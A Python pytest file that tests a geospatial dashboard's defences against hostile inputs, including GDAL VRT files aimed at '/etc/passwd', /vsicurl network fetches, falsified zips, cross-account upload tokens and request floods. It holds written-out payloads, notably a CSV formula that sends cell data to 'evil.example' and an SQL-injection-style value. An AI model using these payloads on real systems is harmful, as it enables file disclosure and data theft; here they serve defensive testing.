"""Hostile inputs of issue 17, each tried as an attacker would, against the real app and PostGIS:
GDAL virtual files, oversized views and windows, impossible cameras and plans, malformed files,
uploads, formula injection in CSV, floods of expensive requests. None may answer 500."""

from __future__ import annotations

import csv
import errno
import http.server
import io
import json
import os
import stat
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from dash import Dash
from flask.testing import FlaskClient
from playwright.sync_api import Page, expect
from sqlalchemy import Engine, text
from sqlalchemy.exc import IntegrityError, OperationalError

from dashboard import build_app, guard
from etl import uploads
from etl.exporting import export_layer
from etl.sources import ReadOptions, read, read_csv
from geo import _gdal, csvcells, limits, plans
from geo.db import bounded
from geo.errors import DataError
from geo.figures import custom_range
from geo.settings import Settings
from geo.whatif import Camera, Route
from tests.accounts import sign_in_client
from tests.importfiles import LAT, LON, camera, geojson

VIEW = {"bbox": "113.6,37.55,113.8,37.65", "zoom": "13", "lang": "en"}


@pytest.fixture(scope="module")
def app(settings: Settings, engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Dash:
    data = tmp_path_factory.mktemp("data")
    return build_app(settings.replace(language="en", data_dir=data, upload_quota_mb=2), engine)


@pytest.fixture
def client(app: Dash) -> FlaskClient:
    """An administrator's client: hostile values from an account allowed to send them."""
    signed_in = app.server.test_client()
    sign_in_client(signed_in, "admin")
    return signed_in


def callback(
    client: FlaskClient, app: Dash, output: str, values: dict[str, Any], changed: str
) -> Any:
    """POST the Dash callback that updates ``output`` as the browser would (any values: a hostile
    client chooses them)."""
    key = next(
        k
        for k in app.callback_map
        if any(o.rsplit(".", 1)[0] == output for o in k.strip(".").split("..."))
    )
    spec = app.callback_map[key]
    outs = [
        dict(zip(("id", "property"), o.rsplit(".", 1), strict=True))
        for o in key.strip(".").split("...")
    ]

    def fill(items: list[dict[str, Any]]) -> list[Any]:
        return [
            values.get("*" + i["property"], [])
            if str(i["id"]).startswith("{")
            else {
                "id": i["id"],
                "property": i["property"],
                "value": values.get(f"{i['id']}.{i['property']}"),
            }
            for i in items
        ]

    payload = {
        "output": key,
        "outputs": outs if len(outs) > 1 else outs[0],
        "inputs": fill(spec["inputs"]),
        "state": fill(spec["state"]),
        "changedPropIds": [changed],
    }
    return client.post("/_dash-update-component", json=payload)


# -- GDAL: virtual files ---------------------------------------------------------------------------


def _vrt(source: str) -> str:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource>'
        "<GeometryType>wkbPoint</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
    )


@pytest.fixture
def watched_fifo(tmp_path: Path) -> Iterator[tuple[Path, list[bool]]]:
    """A named pipe and a flag set if anything opens it for reading.

    The flag unset is the proof that a target was not read.
    """
    fifo = tmp_path / "secret.csv"
    os.mkfifo(fifo)
    opened: list[bool] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            try:
                fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                if exc.errno != errno.ENXIO:
                    raise
                time.sleep(0.005)
                continue
            opened.append(True)
            os.write(fd, b"name\nTOPSECRET\n")
            os.close(fd)

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    yield fifo, opened
    stop.set()
    thread.join(2)


@pytest.mark.parametrize("name", ["x.geojson", "x.gpkg", "x.kml", "x.gpx", "x.shp"])
def test_a_vrt_file_under_any_name_is_refused_without_reading_its_target(
    tmp_path: Path, watched_fifo: tuple[Path, list[bool]], name: str
) -> None:
    fifo, opened = watched_fifo
    path = tmp_path / name
    path.write_text(_vrt(f"CSV:{fifo}"), encoding="utf-8")
    with pytest.raises(DataError) as refused, read(path, ReadOptions()):
        pass
    assert name in str(refused.value) and "TOPSECRET" not in str(refused.value)
    time.sleep(0.05)
    assert opened == []


def test_vrt_and_vsicurl_in_a_zip_and_in_content_never_reach_the_network(tmp_path: Path) -> None:
    hits: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"lon,lat\n113.7,37.6\n")

        do_HEAD = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"/vsicurl/http://127.0.0.1:{server.server_port}/x.csv"
    try:
        vrt = tmp_path / "net.geojson"
        vrt.write_text(_vrt(url), encoding="utf-8")
        archive = tmp_path / "net.zip"
        with zipfile.ZipFile(archive, "w") as zf:
            zf.write(vrt, "inner.geojson")
        named = geojson(tmp_path / "named.geojson", [camera("CVSI1", name=url)])
        utf16 = tmp_path / "utf16.kml"
        utf16.write_bytes(
            f'<?xml version="1.0" encoding="UTF-16"?><kml><!-- {url} --></kml>'.encode("utf-16")
        )
        for path in (vrt, archive, named, utf16):
            with pytest.raises(DataError) as refused, read(path, ReadOptions()):
                pass
            assert path.name in str(refused.value)
        assert "virtual file" in str(_refusal(named)) and "virtual file" in str(_refusal(utf16))
    finally:
        server.shutdown()
    assert hits == []


def _refusal(path: Path) -> DataError:
    try:
        with read(path, ReadOptions()):
            pass
    except DataError as exc:
        return exc
    raise AssertionError(f"{path.name} was read")


def test_only_the_importers_drivers_are_loaded_and_content_must_match_the_extension(
    tmp_path: Path,
) -> None:
    import pyogrio

    assert set(pyogrio.list_drivers()) - {"MapInfo File"} == set(_gdal.ALLOWED)
    _gdal.check()
    gpx = tmp_path / "track.geojson"
    gpx.write_text(
        f'<?xml version="1.0"?><gpx version="1.1" creator="t" xmlns="http://www.topografix.com/GPX/1/1">'
        f'<wpt lat="{LAT}" lon="{LON}"><name>a</name></wpt></gpx>',
        encoding="utf-8",
    )
    assert "content is GPX, not GeoJSON" in str(_refusal(gpx))
    assert limits.driver_for("roads.SHP") == "ESRI Shapefile" and limits.driver_for("a.vrt") is None


# -- malformed files -------------------------------------------------------------------------------


def test_a_malformed_kml_and_a_zip_with_a_falsified_size_are_refused(tmp_path: Path) -> None:
    kml = tmp_path / "broken.kml"
    kml.write_text(
        '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark>',
        encoding="utf-8",
    )
    assert "broken.kml" in str(_refusal(kml))
    inner = geojson(tmp_path / "cams.geojson", [camera("CZIPF1")])
    for declared in (10, 10**6):  # smaller and larger than the data
        archive = tmp_path / f"lying-{declared}.zip"
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.write(inner, "cams.geojson")
        raw = bytearray(archive.read_bytes())
        size = inner.stat().st_size.to_bytes(4, "little")
        for at in (
            i for i in range(len(raw) - 4) if raw[i : i + 4] == size
        ):  # local header and directory
            raw[at : at + 4] = declared.to_bytes(4, "little")
        archive.write_bytes(bytes(raw))
        if declared < inner.stat().st_size:
            message = str(_refusal(archive))
            assert archive.name in message and "cannot be extracted" in message
        else:
            # overstated: harmless, the bytes really extracted are what is counted against the limit
            with read(archive, ReadOptions()) as source:
                assert [f.props["code"] for f in source.features] == ["CZIPF1"]


def test_uploaded_malformed_kml_is_a_message_not_a_500(client: FlaskClient, app: Dash) -> None:
    body = b'<?xml version="1.0"?><kml><Document><Placemark>'
    up = client.post(
        "/import/upload",
        data={"file": (io.BytesIO(body), "bad.kml")},
        content_type="multipart/form-data",
    )
    assert up.status_code == 200
    token = up.get_json()["token"]
    answer = callback(
        client,
        app,
        "gs-import-summary",
        {
            "gs-import-token.data": token,
            "gs-import-layer.value": "cameras",
            "gs-import-skip.value": [],
            "gs-import-datum.value": "wgs84",
            "gs-lang.data": "en",
        },
        "gs-import-token.data",
    )
    assert answer.status_code == 200
    assert "bad.kml: cannot be read" in answer.get_data(as_text=True)


def test_the_vrt_uploaded_on_the_import_page_is_refused(client: FlaskClient, app: Dash) -> None:
    up = client.post(
        "/import/upload",
        data={"file": (io.BytesIO(_vrt("CSV:/etc/passwd").encode()), "x.geojson")},
        content_type="multipart/form-data",
    )
    token = up.get_json()["token"]
    answer = callback(
        client,
        app,
        "gs-import-summary",
        {
            "gs-import-token.data": token,
            "gs-import-layer.value": "cameras",
            "gs-import-skip.value": [],
            "gs-import-datum.value": "wgs84",
            "gs-lang.data": "en",
        },
        "gs-import-token.data",
    )
    text_ = answer.get_data(as_text=True)
    assert answer.status_code == 200 and "x.geojson" in text_ and "gs-error" in text_
    assert "root:" not in text_


# -- uploads ---------------------------------------------------------------------------------------


def test_uploads_are_private_owned_bounded_and_expire(settings: Settings, tmp_path: Path) -> None:
    local = settings.replace(data_dir=tmp_path, max_upload_mb=1, upload_quota_mb=2)
    token, main = uploads.save([("a.geojson", io.BytesIO(b"{}"))], "user:alice", local)
    assert (
        stat.S_IMODE(main.parent.stat().st_mode) == 0o700
        and stat.S_IMODE(main.stat().st_mode) == 0o600
    )
    assert stat.S_IMODE((tmp_path / "uploads").stat().st_mode) == 0o700
    assert uploads.find(token, "user:alice", local) == main
    with pytest.raises(DataError, match="upload the file again"):
        uploads.find(token, "user:mallory", local)  # another account: as if it did not exist
    for _ in range(2):  # each under the upload limit, together over the quota
        uploads.save([("b.geojson", io.BytesIO(b" " * (2**20 - 100)))], "user:bob", local)
    with pytest.raises(DataError, match="GRIDSIGHT_UPLOAD_QUOTA_MB"):
        uploads.save([("c.geojson", io.BytesIO(b" " * 2**19))], "user:bob", local)
    assert len(list((tmp_path / "uploads").iterdir())) == 3  # the refused one left nothing
    hour_ago = time.time() - limits.UPLOAD_MAX_AGE_S - 5
    os.utime(main.parent, (hour_ago, hour_ago))
    with pytest.raises(DataError, match="upload the file again"):
        uploads.find(token, "user:alice", local)
    assert not main.parent.exists()


def test_the_upload_route_streams_multipart_and_refuses_what_is_not_a_file(
    client: FlaskClient,
) -> None:
    empty = client.post("/import/upload", data={}, content_type="multipart/form-data")
    assert empty.status_code == 400 and "'file' part" in empty.get_json()["error"]
    exe = client.post(
        "/import/upload",
        data={"file": (io.BytesIO(b"MZ"), "x.exe")},
        content_type="multipart/form-data",
    )
    assert exe.status_code == 400 and "not a file the importer reads" in exe.get_json()["error"]
    over = client.post(
        "/import/upload",
        data={"file": (io.BytesIO(b" " * (3 * 2**20)), "big.geojson")},
        content_type="multipart/form-data",
    )
    assert over.status_code == 400 and "GRIDSIGHT_UPLOAD_QUOTA_MB" in over.get_json()["error"]


# -- layer requests --------------------------------------------------------------------------------


def test_fifty_repeated_ids_and_a_world_box_at_zoom_22(client: FlaskClient) -> None:
    world = client.get(
        "/api/layers",
        query_string={"ids": ",".join(["townships"] * 50), "bbox": "-180,-90,180,90", "zoom": "22"},
    )
    assert world.status_code == 400 and "pixels at zoom 22" in world.get_json()["error"]
    repeated = client.get(
        "/api/layers", query_string={**VIEW, "ids": ",".join(["townships", "roads"] * 25)}
    )
    assert repeated.status_code == 200 and list(json.loads(repeated.data)) == ["townships", "roads"]
    once = client.get("/api/layers", query_string={**VIEW, "ids": "townships,roads"})
    assert repeated.data == once.data


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"metric": "name"}, "metric 'name' is not allowed: expected one of camera_area_pct"),
        ({"start": "2026-11-01", "end": "9999-12-31"}, "date 9999-12-31 is not allowed"),
        ({"start": "1900-01-01", "end": "2026-11-01"}, "date 1900-01-01 is not allowed"),
        ({"days": str(10**9)}, "expected a whole number from 1 to 3660"),
        ({"zoom": "23"}, "expected 0 to 22"),
    ],
)
def test_bad_view_values_are_400_with_what_was_expected(
    client: FlaskClient, args: dict[str, str], expected: str
) -> None:
    for url in ("/api/layers/units", "/api/layers/units/popup"):
        answer = client.get(url, query_string={**VIEW, **args, "fid": "140724"})
        assert answer.status_code == 400 and expected in answer.get_json()["error"], answer.data


def test_a_custom_range_is_bounded_in_length_too() -> None:
    with pytest.raises(DataError, match="at most 3660"):
        custom_range("1990-01-01", "2100-01-01", "Asia/Shanghai")
    assert custom_range("2026-11-01", "2026-11-30", "Asia/Shanghai")[0] is not None


# -- planning --------------------------------------------------------------------------------------


def test_days_of_a_billion_on_the_planning_page_is_400(client: FlaskClient, app: Dash) -> None:
    answer = callback(
        client,
        app,
        "gs-plan-summary",
        {"gs-plan-days.value": 10**9, "gs-plan-method.value": "lattice", "gs-lang.data": "en"},
        "gs-plan-days.value",
    )
    assert answer.status_code == 400 and "from 1 to 3660" in answer.get_json()["error"]
    method = callback(
        client,
        app,
        "gs-plan-summary",
        {"gs-plan-days.value": 30, "gs-plan-method.value": "x';--", "gs-lang.data": "en"},
        "gs-plan-method.value",
    )
    assert method.status_code == 400 and "expected one of" in method.get_json()["error"]
    count = callback(
        client,
        app,
        "gs-plan-opt-out",
        {
            "gs-plan-opt-run.n_clicks": 1,
            "gs-plan-opt-n.value": 10**6,
            "gs-plan-days.value": 30,
            "gs-lang.data": "en",
        },
        "gs-plan-opt-run.n_clicks",
    )
    assert count.status_code == 200 and "from 1 to 50" in count.get_data(as_text=True)


def test_a_plan_with_a_range_of_ten_thousand_km_is_refused_everywhere(
    client: FlaskClient, app: Dash, engine: Engine
) -> None:
    huge = {
        "kind": "camera",
        "lon": LON,
        "lat": LAT,
        "azimuth_deg": 0,
        "fov_deg": 90,
        "range_m": 1e7,
        "source": "form",
    }
    with engine.connect() as conn:
        before = conn.execute(text("SELECT count(*) FROM plan")).scalar_one()
    answer = callback(
        client,
        app,
        "gs-plan-message",
        {
            "gs-plan-save.n_clicks": 1,
            "gs-plan-name.value": "x",
            "gs-plan-items.data": [huge],
            "gs-plan-days.value": 30,
            "gs-lang.data": "en",
        },
        "gs-plan-save.n_clicks",
    )
    assert answer.status_code == 200 and "range_m 10000000.0 is not allowed" in answer.get_data(
        as_text=True
    )
    with engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM plan")).scalar_one() == before
        with pytest.raises(DataError, match="range_m"):
            plans.save(conn, "x", [Camera(LON, LAT, 0, 90, 1e7)])
    with engine.connect() as conn, pytest.raises(IntegrityError, match="plan_item_range_max"):
        plan_id = conn.execute(
            text("INSERT INTO plan (name) VALUES ('raw') RETURNING id")
        ).scalar_one()
        conn.execute(
            text(
                "INSERT INTO plan_item (plan_id, kind, azimuth_deg, fov_deg, range_m, geom) VALUES "
                "(:p, 'camera', 0, 90, 1e7, ST_SetSRID(ST_MakePoint(:x, :y), 4326))"
            ),
            {"p": plan_id, "x": LON, "y": LAT},
        )
    for bad, message in (
        (Camera(LON, LAT, 0, 90, 20_001), "range_m"),
        (Camera(LON, 95, 0, 90, 50), "latitude"),
        (Route(((LON, LAT), (LON + 10, LAT))), "km"),
        (Camera(LON, LAT, float("nan"), 90, 50), "azimuth"),
    ):
        with pytest.raises(DataError, match=message):
            bad.check()
    button = {"index": "apply:abc", "type": "gs-plan-action"}
    clicked = [{"id": button, "property": "n_clicks", "value": 1}]
    action = callback(
        client,
        app,
        "gs-plan-message",
        {"gs-plan-days.value": 30, "gs-lang.data": "en", "*n_clicks": clicked},
        json.dumps(button, separators=(",", ":"), sort_keys=True) + ".n_clicks",
    )
    assert (
        action.status_code == 200
        and "plan action 'apply:abc' is not allowed" in action.get_data(as_text=True)
    )


def test_a_20_km_camera_what_if_is_stopped_by_the_statement_timeout(
    settings: Settings, engine: Engine, tmp_path: Path
) -> None:
    quick = build_app(
        settings.replace(language="en", data_dir=tmp_path, statement_timeout_s=1), engine
    )
    planner = quick.server.test_client()
    sign_in_client(planner, "admin")
    started = time.perf_counter()
    answer = callback(
        planner,
        quick,
        "gs-plan-items",
        {
            "gs-plan-cam-add.n_clicks": 1,
            "gs-plan-items.data": [],
            "gs-plan-days.value": 30,
            "gs-lang.data": "en",
            "gs-plan-cam-lon.value": LON,
            "gs-plan-cam-lat.value": LAT,
            "gs-plan-cam-az.value": 0,
            "gs-plan-cam-fov.value": 360,
            "gs-plan-cam-range.value": 20_000,
        },
        "gs-plan-cam-add.n_clicks",
    )
    elapsed = time.perf_counter() - started
    assert answer.status_code == 200 and "GRIDSIGHT_STATEMENT_TIMEOUT_S" in answer.get_data(
        as_text=True
    )
    assert elapsed < 15, elapsed
    over = callback(
        planner,
        quick,
        "gs-plan-items",
        {
            "gs-plan-cam-add.n_clicks": 1,
            "gs-plan-items.data": [],
            "gs-plan-days.value": 30,
            "gs-lang.data": "en",
            "gs-plan-cam-lon.value": LON,
            "gs-plan-cam-lat.value": LAT,
            "gs-plan-cam-az.value": 0,
            "gs-plan-cam-fov.value": 360,
            "gs-plan-cam-range.value": 20_001,
        },
        "gs-plan-cam-add.n_clicks",
    )
    assert over.status_code == 200 and "range_m 20001.0 is not allowed" in over.get_data(
        as_text=True
    )


def test_web_statements_are_bounded_and_a_cancelled_one_is_503(engine: Engine) -> None:
    web = bounded(engine, 1)
    try:
        with web.connect() as conn:
            assert conn.execute(text("SHOW statement_timeout")).scalar_one() == "1s"
            with pytest.raises(OperationalError) as cancelled:
                conn.execute(text("SELECT pg_sleep(3)"))
            assert guard.cancelled(cancelled.value)
    finally:
        web.dispose()
    with engine.connect() as conn:
        assert (
            conn.execute(text("SHOW statement_timeout")).scalar_one() == "0"
        )  # imports, refreshes


def test_a_flood_of_heavy_requests_waits_for_slots_and_spares_the_others(
    client: FlaskClient, app: Dash, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "HEAVY_WAIT_S", 0.3)
    slots = app.server.extensions["gridsight.heavy"]
    for _ in range(limits.HEAVY_SLOTS):
        assert slots.acquire(timeout=5)
    try:
        busy = client.get("/api/layers/hotspots", query_string={**VIEW, "days": "17"})
        assert (
            busy.status_code == 503
            and busy.headers["Retry-After"]
            and "busy" in busy.get_json()["error"]
        )
        started = time.perf_counter()
        assert client.get("/api/layers/roads", query_string=VIEW).status_code == 200
        assert time.perf_counter() - started < 5
    finally:
        for _ in range(limits.HEAVY_SLOTS):
            slots.release()
    assert (
        client.get("/api/layers/hotspots", query_string={**VIEW, "days": "17"}).status_code == 200
    )


# -- CSV -------------------------------------------------------------------------------------------


def test_formulas_in_exported_csv_are_neutralised_and_read_back(
    engine: Engine, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO camera"
                " (code, name, azimuth_deg, fov_deg, range_m, status, kind, geom) "
                "VALUES ('CFORMULA1', :n, 0, 90, 50, 'online', 'gun', "
                "ST_SetSRID(ST_MakePoint(:x, :y), 4326))"
            ),
            {"n": formula, "x": LON, "y": LAT},
        )
    try:
        out = tmp_path / "cameras.csv"
        export_layer(engine, "cameras", out)
        rows = {
            r["code"]: r for r in csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines())
        }
        assert rows["CFORMULA1"]["name"] == "'" + formula
        assert not any(
            v.startswith(csvcells.TRIGGERS)
            for r in rows.values()
            for k, v in r.items()
            if k not in ("lon", "lat")
        )
        back = next(
            f for f in read_csv(out, out.name, None).features if f.props["code"] == "CFORMULA1"
        )
        assert back.props["name"] == formula
    finally:
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM camera WHERE code = 'CFORMULA1'"))
    for value in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert (
            csvcells.cell(value) == "'" + value and csvcells.restore(csvcells.cell(value)) == value
        )
    assert csvcells.cell(-1.5) == -1.5


@pytest.mark.browser
def test_the_import_page_streams_files_to_the_upload_route(
    blank_page: Page, base_url: str, tmp_path: Path
) -> None:
    bodies: list[tuple[str, str]] = []
    blank_page.on(
        "request",
        lambda r: bodies.append((r.url, r.post_data or "")) if r.method == "POST" else None,
    )
    blank_page.goto(f"{base_url}/import?lang=en")
    expect(blank_page.locator("#gs-import-upload")).to_be_visible(timeout=20_000)
    vrt = tmp_path / "x.geojson"
    vrt.write_text(_vrt("CSV:/etc/passwd"), encoding="utf-8")
    blank_page.locator("#gs-import-upload input[type=file]").set_input_files(str(vrt))
    expect(blank_page.locator(".gs-import-summary .gs-error")).to_contain_text(
        "x.geojson", timeout=15_000
    )
    expect(blank_page.locator("body")).not_to_contain_text("root:")
    assert any(url.endswith("/import/upload") for url, _ in bodies)
    assert not any(
        "base64" in body or "OGRVRTDataSource" in body
        for url, body in bodies
        if "_dash-update-component" in url
    )


def test_an_upload_is_tied_to_the_account_that_made_it(client: FlaskClient, app: Dash) -> None:
    doc = {"type": "FeatureCollection", "features": [camera("COWNER1")]}
    up = client.post(
        "/import/upload",
        data={"file": (io.BytesIO(json.dumps(doc).encode()), "cams.geojson")},
        content_type="multipart/form-data",
    )
    token = up.get_json()["token"]
    values = {
        "gs-import-token.data": token,
        "gs-import-layer.value": "cameras",
        "gs-import-skip.value": [],
        "gs-import-datum.value": "wgs84",
        "gs-lang.data": "en",
    }
    other = app.server.test_client()
    sign_in_client(other, "data")
    stolen = callback(other, app, "gs-import-summary", values, "gs-import-token.data").get_data(
        as_text=True
    )
    assert "upload the file again" in stolen and "COWNER1" not in stolen
    mine = callback(client, app, "gs-import-summary", values, "gs-import-token.data").get_data(
        as_text=True
    )
    assert "upload the file again" not in mine and "1 ready" in mine


def test_the_examples_in_the_limits_docstrings_hold() -> None:
    import doctest

    import etl.uploads
    import geo.csvcells
    import geo.limits

    for module in (geo.limits, geo.csvcells, etl.uploads):
        assert doctest.testmod(module).failed == 0, module.__name__
